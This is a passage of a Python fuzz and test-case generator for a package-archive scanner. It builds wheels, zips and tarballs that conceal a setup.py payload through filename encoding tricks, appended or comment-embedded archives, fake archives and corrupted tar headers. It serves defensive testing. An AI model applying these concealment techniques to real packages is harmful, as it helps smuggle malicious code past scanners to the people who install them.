        entries = [("pkg/setup.py\x00.txt", body)]
    elif variant == "cp437-raw-name":  # CP437 bytes without the UTF-8 flag: CPython decodes them as CP437
        entries = [("pkg/__init__.py", benign(rng)), (b"pkg/sXtup.py", body)]
        patch = (b"pkg/sXtup.py", b"pkg/s\x82tup.py")
    elif variant == "utf8-without-flag":  # UTF-8 bytes, no flag: CPython reads them as CP437 (mojibake)
        entries = [("pkg/__init__.py", benign(rng)), (b"pkg/sXXtup.py", body)]
        patch = (b"pkg/sXXtup.py", "pkg/s\u00e9tup.py".encode())
    elif variant == "backslash":  # written as one file named with a backslash on POSIX
        entries = [("pkg\\setup.py", body)]
    elif variant == "dot-segments":
        entries = [("pkg/./sub/../setup.py", body)]
    elif variant == "case-names":
        entries = [("pkg/SETUP.py", benign(rng)), ("pkg/setup.py", body)]
    else:
        entries = [("pkg/\u00e9t\u00e9.py", body)]
    filename = rng.choice(["pkg-1.0-py3-none-any.whl", "pkg-1.0.zip"])
    data = zip_of(entries, rng=rng)
    if patch is not None:
        assert data.count(patch[0]) == 2  # the local header and the central directory
        data = data.replace(*patch)
    return variant, filename, data, expected, False


def build_hidden(rng: random.Random) -> Built:
    """Class 7: an archive hidden after the end, in a gap or in a zip comment; it must be opened."""
    variant = rng.choice(["after-tar-end", "after-gzip", "zip-comment", "zip-gap", "after-zip-end"])
    body = payload(rng, variant)
    inner_name = "hidden/setup.py"
    hidden_tar = tar_of(member(inner_name, body))
    hidden = rng.choice(
        [
            gzip.compress(hidden_tar, mtime=0),
            gzip.compress(hidden_tar, mtime=0),
            zip_of([(inner_name, body)]),
            bz2.compress(hidden_tar),
            lzma.compress(hidden_tar),
            hidden_tar,
        ]
    )
    expected = ((inner_name, sha256(body)),)
    visible = tar_of(member("pkg-1.0/README.txt", benign(rng)))
    if variant == "after-tar-end":
        return variant, "pkg-1.0.tar.gz", gzip.compress(visible + hidden, mtime=0), expected, False
    if variant == "after-gzip":
        return variant, "pkg-1.0.tar.gz", gzip.compress(visible, mtime=0) + hidden, expected, False
    entries = [("pkg/__init__.py", benign(rng)), ("pkg/util.py", benign(rng))]
    if variant == "zip-comment":
        data = zip_of(entries, comment=hidden, rng=rng)
    elif variant == "zip-gap":
        data = zip_of(entries, gaps={1: hidden}, rng=rng)
    else:
        data = zip_of(entries, rng=rng) + hidden
    return variant, rng.choice(["pkg-1.0-py3-none-any.whl", "pkg-1.0.zip"]), data, expected, False


def build_not_archive(rng: random.Random) -> Built:
    """Class 8: bytes named like an archive that are not one."""
    variant = rng.choice(
        ["html-whl", "html-targz", "random-targz", "random-zip", "text-tar", "random-tarbz2"]
    )
    html = b"<!DOCTYPE html>\n<html><head><title>404</title></head><body>%s</body></html>\n" % PAYLOAD
    junk = bytes([rng.randrange(1, 256)]) + rng.randbytes(rng.randint(10, 4000))
    data, filename = {
        "html-whl": (html, "pkg-1.0-py3-none-any.whl"),
        "html-targz": (html, "pkg-1.0.tar.gz"),
        "random-targz": (junk, "pkg-1.0.tar.gz"),
        "random-zip": (junk, "pkg-1.0.zip"),
        "text-tar": (b"import os\n" + PAYLOAD + b"\n" * 3, "pkg-1.0.tar"),
        "random-tarbz2": (junk, "pkg-1.0.tar.bz2"),
    }[variant]
    return variant, filename, data, (), True


def build_plain(rng: random.Random) -> Built:
    """Valid archives written by ``tarfile``/``zipfile`` themselves (the baseline)."""
    files = [(f"pkg-1.0/{n}", benign(rng, n)) for n in ("README.txt", "pkg/__init__.py")]
    files.append(("pkg-1.0/setup.py", payload(rng, "plain")))
    if rng.random() < 0.3:
        files.append(("pkg-1.0/" + "long" * 40 + "/setup.py", payload(rng, "long")))
    if rng.random() < 0.5:
        fmt = rng.choice([tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT])
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
            for name, data in files:
                if fmt == tarfile.USTAR_FORMAT and len(name) > 100 and "long" in name:
                    continue
                info = tarfile.TarInfo(name)
                info.size = len(data)
                info.mtime = 1_600_000_000
                tf.addfile(info, io.BytesIO(data))
        return _tar_built(rng, f"tarfile-{fmt}", buf.getvalue())
    return (
        "zipfile",
        rng.choice(["pkg-1.0.zip", "pkg-1.0-py3-none-any.whl"]),
        zip_of(files, rng=rng),
        (),
        False,
    )


# --- mutation -------------------------------------------------------------------------------------------

TYPEFLAGS = b"0123456789gxLKSDMNVAZ\x00"


def mutate_tar(rng: random.Random, tar: bytes) -> tuple[str, bytes]:
    buf = bytearray(tar)
    heads = header_offsets(tar) or [0]
    ops = []
    for _ in range(rng.randint(1, 3)):
        op = rng.choice(
            ["flip", "typeflag", "size", "size-base256", "insert", "delete", "magic", "flip-data"]
        )
        h = rng.choice(heads)
        recompute = rng.random() < 0.8
        if op == "flip" and h + BLOCK <= len(buf):
            pos = h + rng.randrange(BLOCK)
            buf[pos] ^= 1 << rng.randrange(8)
        elif op == "flip-data" and buf:
            pos = rng.randrange(len(buf))
            buf[pos] = rng.randrange(256)
            recompute = False
        elif op == "typeflag" and h + BLOCK <= len(buf):
            buf[h + 156] = rng.choice(TYPEFLAGS)
        elif op in ("size", "size-base256") and h + BLOCK <= len(buf):
            n = rng.choice([0, 1, 511, 512, 513, 1024, rng.randrange(5000)])
            buf[h + 124 : h + 136] = octal(n, 12) if op == "size" else base256(n, 12)
        elif op == "magic" and h + BLOCK <= len(buf):
            buf[h + 257 : h + 265] = rng.choice(list(MAGIC.values())).ljust(8, b"\x00")
        elif op == "insert":
            pos = rng.randrange(len(buf) + 1)
            buf[pos:pos] = rng.choice(
                [b"\x00" * BLOCK, rng.randbytes(rng.randint(1, 16)), b"\x00" * rng.randint(1, 8)]
            )
            recompute = False
        elif op == "delete" and len(buf) > 1:
            pos = rng.randrange(len(buf))
            del buf[pos : pos + rng.choice([1, 8, BLOCK])]
            recompute = False
        else:
            continue
        if recompute and h + BLOCK <= len(buf):
            block = bytearray(buf[h : h + BLOCK])
            fix_checksum(block)
            buf[h : h + BLOCK] = block
        ops.append(op)
    return "+".join(ops) or "none", bytes(buf)


def mutate_bytes(rng: random.Random, data: bytes) -> tuple[str, bytes]:
    buf = bytearray(data)
    ops = []
    for _ in range(rng.randint(1, 3)):
        op = rng.choice(["flip", "insert", "delete", "truncate"])
        if not buf:
            break
        pos = rng.randrange(len(buf))
        if op == "flip":
            buf[pos] ^= 1 << rng.randrange(8)
        elif op == "insert":
            buf[pos:pos] = rng.randbytes(rng.randint(1, 8))
        elif op == "delete":
            del buf[pos : pos + rng.randint(1, 8)]
        else:
            del buf[max(pos, len(buf) - 64) :]
        ops.append(op)
    return "+".join(ops), bytes(buf)


TAR_BUILDERS: list[Callable[[random.Random], Built]] = [
    build_tar_ext,
    build_nonregular_size,
    build_tar_types,
    build_links,
    build_plain,
]


def build_mutation(rng: random.Random) -> Built:
    """Random mutation of a valid archive: header bytes, type flags, sizes, checksums, inserts, deletes."""
    if rng.random() < 0.7:
        # Build an uncompressed tar from a tar class, mutate it, then compress it.
        for _ in range(10):
            variant, filename, data, _expected, _ = rng.choice(TAR_BUILDERS)(rng)
            if filename.endswith(".tar"):
                break
        else:
            variant, filename, data = (
                "direct",
                "pkg-1.0.tar",
                tar_of(member("pkg-1.0/setup.py", payload(rng, "m"))),
            )
        if not filename.endswith(".tar"):
            return build_plain(rng)
        ops, mutated = mutate_tar(rng, data)
        filename, data = compress_tar(rng, mutated)
        return f"tar:{variant}:{ops}", filename, data, (), False
    variant, filename, data, _expected, _ = rng.choice([build_zip_names, build_prefixed_zip, build_plain])(
        rng
    )
    ops, mutated = mutate_bytes(rng, data)
    return f"zip:{variant}:{ops}", filename, mutated, (), False


CLASSES: dict[str, Callable[[random.Random], Built]] = {
    "tar-ext-headers": build_tar_ext,
    "nonregular-size": build_nonregular_size,
    "tar-types": build_tar_types,
    "links": build_links,
    "gzip-stream": build_gzip_stream,
    "prefixed-zip": build_prefixed_zip,
    "zip-names": build_zip_names,
    "hidden": build_hidden,
    "not-archive": build_not_archive,
    "plain": build_plain,
    "mutation": build_mutation,
}
# How many slots of each cycle a class gets (mutation gets the most).
WEIGHTS = {"mutation": 4, "tar-ext-headers": 3, "links": 2}
CYCLE = [name for name in CLASSES for _ in range(WEIGHTS.get(name, 1))]


def make_case(index: int, seed: int = 0) -> Case:
    """Case ``index`` of the run seeded ``seed``; its id ``<seed>:<index>`` rebuilds it."""
    cls = CYCLE[index % len(CYCLE)]
    rng = random.Random(f"dfh:{seed}:{index}")
    variant, filename, data, expected, not_clean = CLASSES[cls](rng)
    return Case(f"{seed}:{index}", cls, variant, filename, data, tuple(expected), not_clean)


def generate_cases(n: int, seed: int = 0) -> Iterator[Case]:
    for i in range(n):
        yield make_case(i, seed)


def write_seeds(directory: str, n: int = 400, seed: int = 0) -> dict[str, int]:
    """Write ``n`` generated cases as fuzz seeds under ``directory/<target>/``: tarballs (decompressed)
    to ``walk_tar``, gzip streams to ``walk_gzip``, bzip2 to ``walk_bzip2``, xz to ``walk_xz``, zips
    to ``walk_zip``, ``.lzma`` tarballs to ``walk_lzma``, and every case, as it is, to ``scan_any``.
    Returns the count per target (``walk_lzip`` and ``walk_zstd`` are seeded from the hostile corpus
    only: Python writes no lzip, and zstd only from 3.14)."""
    counts: dict[str, int] = {}

    def put(target: str, data: bytes) -> None:
        path = os.path.join(directory, target)
        os.makedirs(path, exist_ok=True)
        with open(os.path.join(path, "gen-" + sha256(data)[:16]), "wb") as f:
            f.write(data)
        counts[target] = counts.get(target, 0) + 1

    for case in generate_cases(n, seed):
        put("scan_any", case.data)
        name = case.filename.lower()
        if case.data[:2] == b"\x1f\x8b":
            put("walk_gzip", case.data)
            try:
                put("walk_tar", gzip.decompress(case.data))
            except (OSError, EOFError, zlib.error):
                pass
        elif name.endswith(".tar.bz2"):
            put("walk_bzip2", case.data)
        elif name.endswith(".tar.xz"):
            put("walk_xz", case.data)
        elif name.endswith((".tar.lzma", ".tlz")):
            put("walk_lzma", case.data)
        elif name.endswith(".tar"):
            put("walk_tar", case.data)
        if name.endswith((".zip", ".whl")) or b"PK\x05\x06" in case.data[-70000:]:
            put("walk_zip", case.data)
    return counts
